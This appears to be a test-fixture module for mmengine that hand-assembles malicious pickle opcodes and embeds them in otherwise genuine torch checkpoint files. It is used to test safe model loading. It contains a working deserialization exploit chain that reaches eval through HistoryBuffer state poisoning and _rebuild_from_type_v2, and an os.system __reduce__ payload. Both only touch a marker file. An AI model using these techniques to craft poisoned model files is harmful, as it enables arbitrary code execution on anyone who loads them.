"""Hand-written malicious pickles and torch files wrapping them (for tests)."""
import io
import pickle
import pickletools
import struct
import zipfile

import torch
from mmengine.logging import HistoryBuffer

HB = ('mmengine.logging.history_buffer', 'HistoryBuffer')


class _Asm:
    """Writes protocol-2 pickle opcodes by hand (what a crafted file holds)."""

    def __init__(self) -> None:
        self.out = bytearray(pickle.PROTO + b'\x02')
        self.memo = 0

    def emit(self, *parts) -> '_Asm':
        for part in parts:
            if isinstance(part, str):  # a str literal
                raw = part.encode()
                self.out += pickle.BINUNICODE + struct.pack('<I', len(raw))
                self.out += raw
            elif isinstance(part, int):  # a memo reference
                self.out += pickle.LONG_BINGET + struct.pack('<I', part)
            else:  # raw opcodes
                self.out += part
        return self

    def glob(self, module: str, name: str) -> int:
        self.out += pickle.GLOBAL + f'{module}\n{name}\n'.encode()
        return self.put()

    def put(self) -> int:
        self.out += pickle.LONG_BINPUT + struct.pack('<I', self.memo)
        self.memo += 1
        return self.memo - 1

    def call(self, func: int, *args) -> int:
        """``func(*args)``; each arg is emitted by :meth:`emit`."""
        self.emit(func, pickle.MARK, *args, pickle.TUPLE, pickle.REDUCE)
        return self.put()

    def rebuild(self, rft: int, func: int, new_type: int, *args) -> int:
        """``_rebuild_from_type_v2(func, new_type, args, None)`` (torch)."""
        return self.call(rft, func, new_type, pickle.MARK, *args, pickle.TUPLE,
                         pickle.NONE)

    def result(self, top: int) -> bytes:
        return bytes(self.out) + pickle.LONG_BINGET + struct.pack(
            '<I', top) + pickle.STOP


def setstate_getattr_chain(marker: str) -> bytes:
    """The reported exploit: BUILD a HistoryBuffer whose state adds names to
    class-level ``_statistics_methods``, ``getattr`` them, then reach ``eval``
    through ``_rebuild_from_type_v2``, which calls whatever is on the stack."""
    a = _Asm()
    hb = a.glob(*HB)
    rft = a.glob('torch._tensor', '_rebuild_from_type_v2')
    get = a.glob('builtins', 'getattr')
    a.emit(hb, pickle.EMPTY_TUPLE, pickle.NEWOBJ, pickle.EMPTY_DICT,
           pickle.MARK, 'statistics_methods', pickle.EMPTY_DICT, pickle.MARK)
    names = ('__getattribute__', '__class__', '__init__', 'statistics')
    for name in names:
        a.emit(name, pickle.NONE)
    a.emit(pickle.SETITEMS, pickle.SETITEMS, pickle.BUILD)
    a.put()
    oga, typ, init, stats = (a.call(get, hb, n) for n in names)
    dct = a.rebuild(rft, oga, typ, pickle.EMPTY_DICT, '__class__')
    string = a.rebuild(rft, oga, typ, '', '__class__')
    builtins = a.rebuild(rft, oga, dct, init, '__builtins__')
    # class S(str): _statistics_methods = builtins; then
    # HistoryBuffer.statistics(S(code), 'eval') calls eval(S(code)).
    cls = a.rebuild(rft, typ, typ, 'S', string, pickle.TUPLE1,
                    pickle.EMPTY_DICT, '_statistics_methods', builtins,
                    pickle.SETITEM)
    code = a.rebuild(rft, cls, cls, f'open({marker!r}, "w").close()')
    return a.result(a.rebuild(rft, stats, typ, code, 'eval'))


def getattr_outside_statistics() -> bytes:
    """``getattr(HistoryBuffer, '__init__')``, the registry not poisoned."""
    a = _Asm()
    hb, get = a.glob(*HB), a.glob('builtins', 'getattr')
    return a.result(a.call(get, hb, '__init__'))


def call_history_buffer() -> bytes:
    """``HistoryBuffer([1.0], [1])``: construction by call, not NEWOBJ."""
    a = _Asm()
    hb = a.glob(*HB)
    return a.result(a.call(hb, pickle.EMPTY_LIST, pickle.EMPTY_LIST))


class System:

    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self):
        import os
        return os.system, (f'touch {self.marker}', )


def as_torch_file(pickled: bytes, path: str) -> str:
    """Put ``pickled`` as the data.pkl of an otherwise genuine torch zip."""
    buf = io.BytesIO()
    torch.save({'state_dict': {'w': torch.ones(2)}}, buf)
    with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as src, \
            zipfile.ZipFile(path, 'w', zipfile.ZIP_STORED) as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename.endswith('/data.pkl'):
                data = pickled
            dst.writestr(info, data)
    return path


def double_build() -> bytes:
    """A genuine HistoryBuffer pickle that BUILDs the object a second time."""
    hb = HistoryBuffer([1.0, 2.0], [1, 1])
    data = pickle.dumps(hb, protocol=2)
    ops = list(pickletools.genops(data))
    idx = next(ops[i + 1][1] for i, (op, _, _) in enumerate(ops)
               if op.name == 'EMPTY_DICT')
    return data[:-1] + pickle.BINGET + bytes([idx]) + pickle.BUILD + b'.'


def bad_state(**changes) -> bytes:
    """A HistoryBuffer pickle whose state differs from mmengine's."""
    hb = HistoryBuffer([1.0, 2.0], [1, 1])
    state = dict(hb.__getstate__(), **changes)
    hb.__getstate__ = lambda: state  # pickle asks the instance first
    return pickle.dumps(hb, protocol=2)
